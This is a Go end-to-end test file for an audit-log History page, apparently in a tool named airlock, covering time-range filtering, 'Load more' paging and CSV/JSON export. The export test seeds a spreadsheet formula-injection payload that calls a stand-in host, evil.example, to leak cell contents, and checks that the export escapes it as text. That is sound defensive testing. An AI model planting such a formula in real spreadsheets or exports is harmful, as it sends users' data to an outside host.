package e2e

// Browser tests of History beyond its filters (browser_test.go): the time
// range, "Load more" over several pages, and Export. The calls are written
// straight into a real audit log with the times each test needs (a call
// through the proxy always happens now); what the page shows, and what an
// export holds, must be what `airlock history --json` says for the same
// filter.

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/airlock-dev/airlock/internal/config"
	"github.com/airlock-dev/airlock/internal/store"
)

// auditCall is one line of `airlock history --json` with every field an
// export holds.
type auditCall struct {
	ID         int64           `json:"id"`
	Time       string          `json:"time"`
	Client     string          `json:"client"`
	Session    string          `json:"session"`
	Server     string          `json:"server"`
	Tool       string          `json:"tool"`
	Tier       string          `json:"tier"`
	Decision   string          `json:"decision"`
	DecidedBy  string          `json:"decided_by"`
	Reasons    []string        `json:"reasons"`
	Summary    string          `json:"summary"`
	Arguments  json.RawMessage `json:"arguments"`
	Outcome    string          `json:"outcome"`
	Error      string          `json:"error"`
	DurationMS float64         `json:"duration_ms"`
	RequestID  int64           `json:"request_id"`
}

// auditCalls runs `airlock history --json` with flags over home's whole log.
func auditCalls(t *testing.T, home string, flags ...string) []auditCall {
	t.Helper()
	out := airlockOK(t, home, append([]string{"history", "--json", "--limit", "100000"}, flags...)...)
	var calls []auditCall
	sc := bufio.NewScanner(strings.NewReader(out))
	sc.Buffer(make([]byte, 1<<20), 16<<20)
	for sc.Scan() {
		var c auditCall
		if err := json.Unmarshal(sc.Bytes(), &c); err != nil {
			t.Fatalf("airlock history --json line %q: %v", sc.Text(), err)
		}
		calls = append(calls, c)
	}
	return calls
}

func auditIDs(calls []auditCall) []int64 {
	ids := make([]int64, 0, len(calls))
	for _, c := range calls {
		ids = append(ids, c.ID)
	}
	return ids
}

// seedCalls records finished calls in home's audit log, in the order
// given, through the store the proxy writes with; it returns their ids.
func seedCalls(t *testing.T, home string, calls []store.Call) []int64 {
	t.Helper()
	st, err := store.Open(config.DBPath(home))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	ctx := context.Background()
	var ids []int64
	for _, c := range calls {
		id, err := st.BeginCall(ctx, &c)
		if err != nil {
			t.Fatal(err)
		}
		if err := st.FinishCall(ctx, id, c.Outcome, c.Error, c.Duration); err != nil {
			t.Fatal(err)
		}
		ids = append(ids, id)
	}
	return ids
}

// seedCall is an allowed, finished read of ts's tool at.
func seedCall(at time.Time, tool, text string) store.Call {
	return store.Call{
		Time: at, Client: "e2e-host", Session: "s1", Server: "ts", Tool: tool, Tier: "read",
		Decision: "allow", DecidedBy: "rule", Arguments: fmt.Sprintf(`{"text":%q}`, text),
		Summary: "echo " + text, Outcome: "ok", Duration: 1500 * time.Microsecond,
	}
}

// The time range: the last 24 hours, 7 days and 30 days, all time, and a
// custom from-to typed into the page, each showing exactly the calls the
// CLI finds for the same range, which are the ones seeded inside it. One
// call was recorded late, with a start older than the calls before it (a
// clock set back): a range finds it by its time, not its place.
func TestBrowserHistoryTimeRange(t *testing.T) {
	home := newHome(t)
	now := time.Now()
	ago := func(d time.Duration) time.Time { return now.Add(-d) }
	day := 24 * time.Hour
	ages := []time.Duration{40 * day, 10 * day, 3 * day, 20 * time.Hour, 2 * time.Hour, 5 * day}
	var seeds []store.Call
	for _, a := range ages {
		seeds = append(seeds, seedCall(ago(a), "echo", "age "+a.String()))
	}
	ids := seedCalls(t, home, seeds)
	byAge := map[time.Duration]int64{}
	for i, a := range ages {
		byAge[a] = ids[i]
	}
	url, _ := startUI(t, home)
	p := openPage(t, url, "history-range")

	from, to := ago(12*day).Truncate(time.Minute), ago(4*day).Truncate(time.Minute)
	cases := []struct {
		what   string
		filter map[string]any
		flags  []string
		ages   []time.Duration // the seeds inside, newest id first
	}{
		{"last 24 hours", map[string]any{"range": "24h"}, []string{"--since", "24h"}, []time.Duration{2 * time.Hour, 20 * time.Hour}},
		{"last 7 days", map[string]any{"range": "7d"}, []string{"--since", "168h"}, []time.Duration{5 * day, 2 * time.Hour, 20 * time.Hour, 3 * day}},
		{"last 30 days", map[string]any{"range": "30d"}, []string{"--since", "720h"}, []time.Duration{5 * day, 2 * time.Hour, 20 * time.Hour, 3 * day, 10 * day}},
		{"12 to 4 days ago", map[string]any{"range": "custom", "from": from.UnixMilli(), "to": to.UnixMilli()},
			[]string{"--since", from.UTC().Format(time.RFC3339), "--until", to.UTC().Format(time.RFC3339)}, []time.Duration{5 * day, 10 * day}},
		{"all time", map[string]any{"range": "all"}, nil, []time.Duration{5 * day, 2 * time.Hour, 20 * time.Hour, 3 * day, 10 * day, 40 * day}},
	}
	for _, c := range cases {
		var want []int64
		for _, a := range c.ages {
			want = append(want, byAge[a])
		}
		if cli := auditIDs(auditCalls(t, home, c.flags...)); !slices.Equal(cli, want) {
			t.Fatalf("airlock history %s finds calls %v, want %v", strings.Join(c.flags, " "), cli, want)
		}
		var rows []historyView
		p.step("history", map[string]any{"filter": c.filter, "want": want}, &rows)
		var got []int64
		for _, r := range rows {
			got = append(got, r.ID)
		}
		if !slices.Equal(got, want) {
			p.shot(strings.ReplaceAll(c.what, " ", "-"))
			t.Fatalf("History over %s shows calls %v, want %v", c.what, got, want)
		}
	}
	p.shot("custom-then-all")
}

// historyList is what historyRows reads off the whole History list.
type historyList struct {
	IDs   []*int64 `json:"ids"`
	Count string   `json:"count"`
	More  bool     `json:"more"`
}

// shown is the list's ids in order; a row never drawn fails the test.
func (l historyList) shown(t *testing.T) []int64 {
	t.Helper()
	out := make([]int64, 0, len(l.IDs))
	for i, id := range l.IDs {
		if id == nil {
			t.Fatalf("History list has no row at place %d of %d", i, len(l.IDs))
		}
		out = append(out, *id)
	}
	return out
}

// "Load more" pages through more calls than one page holds (keyset paging
// by id) down to the oldest call, without a duplicate or a gap, also when
// a new call arrives between pages and the first page reloads.
func TestBrowserHistoryLoadMore(t *testing.T) {
	home := newHome(t)
	start := time.Now().Add(-time.Hour)
	var seeds []store.Call
	for i := range 230 {
		seeds = append(seeds, seedCall(start.Add(time.Duration(i)*time.Second), "echo", fmt.Sprintf("call %03d", i)))
	}
	ids := seedCalls(t, home, seeds)
	url, _ := startUI(t, home)
	p := openPage(t, url, "history-more")

	var l historyList
	p.step("historyRows", map[string]any{"firstId": ids[len(ids)-1]}, &l)
	first := auditIDs(auditCalls(t, home))
	if got := l.shown(t); !slices.Equal(got, first[:100]) || !l.More || l.Count != "100 shown, more available" {
		t.Fatalf("first page: %d rows (%v...), count %q, more %v; want the newest 100 of %d and more", len(got), got[:min(3, len(got))], l.Count, l.More, len(first))
	}

	// A call arrives: the page reloads its first page (now starting with
	// it) and the next page must start right below that page's last row.
	fresh := seedCalls(t, home, []store.Call{seedCall(time.Now(), "echo", "arrived between pages")})[0]
	p.step("historyRows", map[string]any{"firstId": fresh}, &l)
	all := auditIDs(auditCalls(t, home))
	if len(all) != 231 || all[0] != fresh {
		t.Fatalf("airlock history has %d calls, newest %d; want 231, newest %d", len(all), all[0], fresh)
	}
	if got := l.shown(t); !slices.Equal(got, all[:100]) {
		t.Fatalf("after a new call the first page shows %d rows %v..., want %v...", len(got), got[:min(3, len(got))], all[:3])
	}
	var counts []string
	for l.More && len(counts) < 5 {
		var count string
		p.step("loadMore", nil, &count)
		counts = append(counts, count)
		p.step("historyRows", nil, &l)
	}
	p.shot("all-loaded")
	if want := []string{"200 shown, more available", "231 shown"}; !slices.Equal(counts, want) {
		t.Fatalf("count after each Load more: %q, want %q", counts, want)
	}
	got := l.shown(t)
	seen := map[int64]bool{}
	for _, id := range got {
		if seen[id] {
			t.Fatalf("call %d shown twice after Load more", id)
		}
		seen[id] = true
	}
	if !slices.Equal(got, all) || got[len(got)-1] != ids[0] {
		t.Fatalf("after Load more the list holds %d calls ending with %d; want all %d down to the oldest, %d", len(got), got[len(got)-1], len(all), ids[0])
	}
}

// Export CSV and Export JSON write every call of the current filter (time
// range and tier) into the Downloads folder: the rows are exactly those of
// `airlock history --json` for that filter, field for field, and in the
// CSV a cell a spreadsheet would run as a formula is written as text.
func TestBrowserHistoryExport(t *testing.T) {
	home := newHome(t)
	now := time.Now()
	write := func(c store.Call) store.Call {
		c.Tier, c.Tool, c.DecidedBy = "write", "create_entities", "person"
		return c
	}
	hyperlink := write(seedCall(now.Add(-2*time.Hour), "", "a"))
	hyperlink.Summary = `=HYPERLINK("http://evil.example/?"&A1,"open")`
	hyperlink.Client, hyperlink.Session, hyperlink.Reasons = "@host", "-session", []string{"writes memory"}
	failed := write(seedCall(now.Add(-26*time.Hour), "", "b"))
	failed.Summary, failed.Outcome, failed.Error = "\tline one\nline two, \"quoted\"", "tool_error", "+SUM(1,2) failed"
	failed.Arguments, failed.RequestID = `{"cell":"=1+2","note":"comma, quote \" end"}`, 7
	seedCalls(t, home, []store.Call{
		write(seedCall(now.Add(-10*24*time.Hour), "", "too old")),
		seedCall(now.Add(-3*24*time.Hour), "echo", "a read"),
		failed,
		hyperlink,
	})
	want := auditCalls(t, home, "--tier", "write", "--since", "168h")
	if len(want) != 2 || want[0].Summary != hyperlink.Summary || want[1].Error != failed.Error {
		t.Fatalf("airlock history --tier write --since 168h: %+v; want the two recent writes", want)
	}

	url, _ := startUI(t, home)
	p := openPage(t, url, "history-export")
	p.step("history", map[string]any{"filter": map[string]any{"tier": "write", "range": "7d"}, "want": auditIDs(want)}, nil)

	// Export writes below os.UserHomeDir in this process (the backend runs
	// here): a home of the test's own, set only now that every build and
	// CLI run is done, so nothing lands in the real one and the Go build
	// cache stays where it is.
	user := t.TempDir()
	downloads := filepath.Join(user, "Downloads")
	if err := os.Mkdir(downloads, 0o700); err != nil {
		t.Fatal(err)
	}
	t.Setenv("HOME", user)

	csvPath := exportTo(t, p, "csv", downloads)
	jsonPath := exportTo(t, p, "json", downloads)
	p.shot("exported")
	if entries, _ := os.ReadDir(downloads); len(entries) != 2 {
		t.Fatalf("Downloads holds %d files after two exports, want 2", len(entries))
	}

	data, err := os.ReadFile(csvPath)
	if err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("exported CSV does not parse: %v\n%s", err, data)
	}
	header := []string{"id", "time", "client", "session", "server", "tool", "tier", "decision",
		"decided_by", "reasons", "summary", "arguments", "outcome", "error", "duration_ms", "request_id"}
	if len(records) != len(want)+1 || !slices.Equal(records[0], header) {
		t.Fatalf("exported CSV has %d records, header %q; want %d rows under %q:\n%s", len(records), records[0], len(want), header, data)
	}
	for i, c := range want {
		reasons, _ := json.Marshal(c.Reasons)
		fields := []string{strconv.FormatInt(c.ID, 10), c.Time, c.Client, c.Session, c.Server, c.Tool, c.Tier,
			c.Decision, c.DecidedBy, string(reasons), c.Summary, string(c.Arguments), c.Outcome, c.Error,
			strconv.FormatFloat(c.DurationMS, 'f', -1, 64), strconv.FormatInt(c.RequestID, 10)}
		for j, f := range fields {
			if f != "" && strings.ContainsRune("=+-@\t\r", rune(f[0])) {
				fields[j] = "'" + f // what a spreadsheet reads as text
			}
		}
		if !slices.Equal(records[i+1], fields) {
			t.Errorf("CSV row %d:\n got %q\nwant %q", i+1, records[i+1], fields)
		}
	}
	if s := records[1][10]; !strings.HasPrefix(s, `'=HYPERLINK(`) {
		t.Errorf("the formula summary is exported as %q, not as text", s)
	}

	data, err = os.ReadFile(jsonPath)
	if err != nil {
		t.Fatal(err)
	}
	var got []struct {
		auditCall
		Arguments string `json:"arguments"` // text in an export
	}
	if err := json.Unmarshal(data, &got); err != nil {
		t.Fatalf("exported JSON does not parse: %v\n%s", err, data)
	}
	if len(got) != len(want) {
		t.Fatalf("exported JSON has %d calls, want %d:\n%s", len(got), len(want), data)
	}
	for i, c := range want {
		g := got[i].auditCall
		g.Arguments = json.RawMessage(got[i].Arguments)
		if jsonOf(t, g) != jsonOf(t, c) {
			t.Errorf("JSON call %d:\n got %s\nwant %s", i, jsonOf(t, g), jsonOf(t, c))
		}
	}
}

// exportTo clicks Export format on History and returns the file it saved,
// which must be a new private file in dir.
func exportTo(t *testing.T, p *page, format, dir string) string {
	t.Helper()
	var note struct {
		OK   bool   `json:"ok"`
		Text string `json:"text"`
	}
	p.step("exportHistory", map[string]any{"format": format}, &note)
	path, ok := strings.CutPrefix(note.Text, "Saved ")
	if !note.OK || !ok || filepath.Dir(path) != dir || filepath.Ext(path) != "."+format {
		t.Fatalf("Export %s showed %+v; want Saved and a .%s file in %s", format, note, format, dir)
	}
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != 0o600 {
		t.Errorf("export %s has mode %v, want 0600 (it holds the call history)", path, fi.Mode().Perm())
	}
	return path
}
